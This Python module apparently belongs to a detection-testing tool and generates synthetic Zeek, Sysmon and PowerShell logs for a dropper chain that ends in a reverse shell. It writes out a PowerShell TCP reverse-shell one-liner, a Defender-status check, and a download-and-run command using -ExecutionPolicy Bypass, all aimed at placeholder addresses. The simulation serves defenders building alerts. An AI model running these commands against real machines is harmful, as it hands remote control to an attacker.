"""A batch file from an unusual port asks for Defender, fetches a second one and opens a reverse shell.

The chain: msedge downloads testing.bat; explorer → cmd (testing.bat) → powershell (asks whether real-time protection
is off), powershell (fetches shell.bat and runs it) → cmd (shell.bat) → powershell → the connection outward. Zeek sees
both downloads and the connection, Sysmon the processes, files and connections, PowerShell its script blocks.
"""

from __future__ import annotations

from datetime import datetime
from typing import Final

from tocsin.simulate import Emission, Story
from tocsin.simulate import _windows as windows
from tocsin.simulate import _zeek as zeek
from tocsin.simulate._site import RESOLVER, VICTIMS, Dice

_EDGE_AGENT: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 "
    "Edg/131.0.0.0"
)
_PS_AGENT: Final = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506"
_PORTS: Final = (8000, 8080, 8081, 8088, 8888, 9000, 9090)
_SHELL_PORTS: Final = (4444, 4443, 5555, 9001, 1337)
# What such a shell looks like to a sensor; its loop is cut short.
_SHELL: Final = (
    "$c=New-Object system.net.sockets.tcpclient('{server}',{port});$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}};"
    "while(($i=$s.Read($b,0,$b.Length)) -ne 0){{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);"
    "$r=(iex $d 2>&1|Out-String);$o=([Text.Encoding]::ASCII).GetBytes($r);$s.Write($o,0,$o.Length)}};$c.Close()"
)


class _Dropper:
    summary = "a downloaded batch file leads to a reverse shell (four alerts, one incident)"

    def tell(self, seed: int, start: datetime) -> list[Emission]:
        """See `Story.tell`."""
        dice = Dice("dropper", seed, start)
        host = dice.pick(VICTIMS)
        server = dice.address("198.51.100", 10, 180)
        port, shell_port = dice.pick(_PORTS), dice.pick(_SHELL_PORTS)
        name = dice.pick(("files", "get", "cdn", "assets")) + "-" + dice.hex(4) + ".example"
        begin = dice.between(300, 420)
        home = f"C:\\Users\\{host.user}"
        downloads, temp = f"{home}\\Downloads\\", f"{home}\\AppData\\Local\\Temp\\"
        out, explorer = windows.session(dice, host, dice.at(begin - dice.between(120, 200)))

        def record(*emissions: Emission) -> None:
            out.extend(emissions)

        # The browser fetches testing.bat.
        t = begin
        edge = windows.process(dice, host, dice.at(t - 40), windows.EDGE, f'"{windows.EDGE}"', explorer, directory=home)
        record(windows.created(dice, edge))
        query = zeek.flow(dice, host.ip, RESOLVER, 53, "udp")
        record(
            zeek.conn(dice, query, dice.at(t), duration=0.02, sent=38, got=54, service="dns"),
            zeek.dns(dice, query, dice.at(t), name, [server]),
            windows.asked(dice, edge, dice.at(t + 0.03), name, [server]),
        )
        link = zeek.flow(dice, host.ip, server, port)
        size = dice.number(380, 640)
        record(
            zeek.conn(dice, link, dice.at(t + 0.1), duration=5.2, sent=412, got=size + 230, service="http"),
            windows.connected(dice, edge, dice.at(t + 0.14), link, name),
            *zeek.http(
                dice, link, dice.at(t + 0.16), uri="/testing.bat", host=f"{name}:{port}", agent=_EDGE_AGENT, size=size,
                mime="text/x-msdos-batch",
            ),
            windows.wrote(dice, edge, dice.at(t + 0.4), downloads + "testing.bat"),
        )  # fmt: skip

        # A double click runs it.
        t += dice.between(14, 30)
        first = windows.process(
            dice, host, dice.at(t), windows.CMD, f'{windows.CMD} /c ""{downloads}testing.bat" "', explorer,
            directory=downloads,
        )  # fmt: skip
        record(windows.created(dice, first), self._console(dice, first, t + 0.02))

        # It asks whether real-time protection is on.
        t += dice.between(0.3, 0.8)
        asking = "if ((Get-MpComputerStatus).RealTimeProtectionEnabled -eq $false) { exit 0 } else { exit 1 }"
        asked = windows.process(
            dice, host, dice.at(t), windows.POWERSHELL, f'powershell  -NoProfile -Command "{asking}"', first,
            directory=downloads,
        )  # fmt: skip
        record(
            windows.created(dice, asked),
            windows.script_block(dice, asked, dice.at(t + 0.5), asking),
            windows.ended(dice, asked, dice.at(t + 2.1)),
        )

        # It fetches shell.bat and runs it.
        t += dice.between(2.3, 3.5)
        url = f"http://{server}:{port}/shell.bat"
        fetching = f"Invoke-WebRequest -Uri '{url}' -OutFile '{temp}shell.bat'; cmd.exe /c '{temp}shell.bat'"
        fetcher = windows.process(
            dice, host, dice.at(t), windows.POWERSHELL,
            f'powershell  -NoProfile -ExecutionPolicy Bypass -Command "{fetching}"', first, directory=downloads,
        )  # fmt: skip
        link = zeek.flow(dice, host.ip, server, port)
        size = dice.number(900, 1500)
        record(
            windows.created(dice, fetcher),
            windows.script_block(dice, fetcher, dice.at(t + 0.4), fetching),
            zeek.conn(dice, link, dice.at(t + 0.9), duration=0.6, sent=180, got=size + 210, service="http"),
            windows.connected(dice, fetcher, dice.at(t + 0.95), link),
            *zeek.http(
                dice, link, dice.at(t + 1.0), uri="/shell.bat", host=f"{server}:{port}", agent=_PS_AGENT, size=size,
                mime="text/x-msdos-batch",
            ),
            windows.wrote(dice, fetcher, dice.at(t + 1.2), temp + "shell.bat"),
        )  # fmt: skip
        t += dice.between(1.5, 2.0)
        second = windows.process(
            dice, host, dice.at(t), windows.CMD, f'"{windows.CMD}" /c {temp}shell.bat', fetcher, directory=downloads
        )
        record(windows.created(dice, second))

        # The reverse shell.
        t += dice.between(0.3, 0.7)
        text = _SHELL.format(server=server, port=shell_port)
        shell = windows.process(
            dice, host, dice.at(t), windows.POWERSHELL, f'powershell  -nop -w hidden -c "{text}"', second,
            directory=downloads,
        )  # fmt: skip
        link = zeek.flow(dice, host.ip, server, shell_port)
        record(
            windows.created(dice, shell),
            windows.script_block(dice, shell, dice.at(t + 0.4), text),
            windows.connected(dice, shell, dice.at(t + 0.7), link),
            zeek.conn(
                dice, link, dice.at(t + 0.68), duration=dice.between(90, 160), sent=dice.number(4000, 9000),
                got=dice.number(300, 900), state="S1",
            ),
        )  # fmt: skip
        t += dice.between(8, 20)
        who = windows.process(
            dice, host, dice.at(t), windows.SYSTEM32 + "whoami.exe", f'"{windows.SYSTEM32}whoami.exe" /all', shell,
            directory=downloads,
        )  # fmt: skip
        record(windows.created(dice, who), windows.ended(dice, who, dice.at(t + 0.2)))
        return out

    def _console(self, dice: Dice, of: windows.Process, t: float) -> Emission:
        image = windows.SYSTEM32 + "conhost.exe"
        line = f"\\??\\{image} 0xffffffff -ForceV1"
        return windows.created(
            dice, windows.process(dice, of.host, dice.at(t), image, line, of, directory="C:\\Windows")
        )


STORY: Final[Story] = _Dropper()
